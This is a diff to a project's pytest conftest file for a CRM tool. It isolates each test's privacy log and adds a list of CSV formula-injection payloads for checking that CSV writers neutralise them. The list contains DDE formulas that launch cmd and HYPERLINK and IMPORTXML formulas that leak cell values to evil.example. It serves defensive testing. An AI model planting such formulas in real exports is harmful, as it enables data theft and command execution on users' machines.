@@ -60,6 +60,13 @@ def postgres_url():
         server.stop()
 
 
+@pytest.fixture(autouse=True)
+def _private_privacy_log(tmp_path_factory, monkeypatch):
+    """Each test's erasures and unsubscribes go to its own privacy log, never
+    the user's (crmcore/privacy_log.py)."""
+    monkeypatch.setenv("CRM_PRIVACY_LOG", str(tmp_path_factory.mktemp("privacy-log") / "privacy-log.jsonl"))
+
+
 @pytest.fixture
 def new_db(request, tmp_path):
     """``new_db(name)``: location of a fresh database on the store under test."""
@@ -225,7 +232,8 @@ def database_digest(path, ignore_times=False):
     """SHA-256 over the schema and every table's rows (in rowid order).
 
     Equal digests mean equal content. ``ignore_times`` blanks timestamp
-    columns (``at``, ``since`` and ``*_at``) so two runs of one command compare equal.
+    columns (``at``, ``since`` and ``*_at``) and the random privacy-log
+    identity in ``_crm_settings`` so two runs of one command compare equal.
     A missing file counts as an empty database."""
     import hashlib
     import sqlite3
@@ -250,6 +258,8 @@ def database_digest(path, ignore_times=False):
             rows = cur.fetchall()
             if blank:
                 rows = [tuple(None if i in blank else v for i, v in enumerate(r)) for r in rows]
+            if ignore_times and table == "_crm_settings":  # privacy.crm_id and privacy.salt are random by design
+                rows = [(k, None if str(k).startswith("privacy.") else v) for k, v in rows]
             h.update(f"{table}\0{len(rows)}\n".encode())
             h.update(repr(rows if ordered else sorted(map(repr, rows))).encode())
     finally:
@@ -314,3 +324,21 @@ def web_user(monkeypatch):
         return client
 
     return make
+
+
+#: Spreadsheet formula payloads (OWASP "CSV injection" and what the issue found):
+#: every CSV writer must neutralise each one (tests/test_csv_safety.py).
+OWASP_CSV_PAYLOADS = [
+    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
+    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")", "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1", "\r=1+1", "\n=1+1", "=2+5@example.com", "+491701234567x", "Ada\r=HYPERLINK(\"http://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
+]
+
+
+def formula_cells(rows):
+    """The cells of parsed CSV ``rows`` that a spreadsheet would evaluate."""
+    import re
+
+    starts, e164 = ("=", "+", "-", "@", "\t", "\r", "\n"), re.compile(r"\+[1-9][0-9]{1,14}")
+    return [cell for row in rows for cell in row if cell[:1] in starts and not e164.fullmatch(cell)]
